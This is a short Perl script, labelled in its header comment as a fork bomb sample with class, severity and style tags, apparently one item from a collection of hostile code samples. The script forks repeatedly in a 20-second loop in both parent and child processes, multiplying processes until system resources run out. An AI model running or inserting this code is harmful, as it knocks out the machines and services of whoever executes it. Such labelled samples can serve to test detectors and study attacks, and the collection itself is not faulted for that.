# class: fork bomb; possible: low medium; style: perl, parents and children alike
$SIG{CHLD} = 'DEFAULT';
my $end = time + 20;
while (time < $end) {
    fork;
    select(undef, undef, undef, 0.02);
}
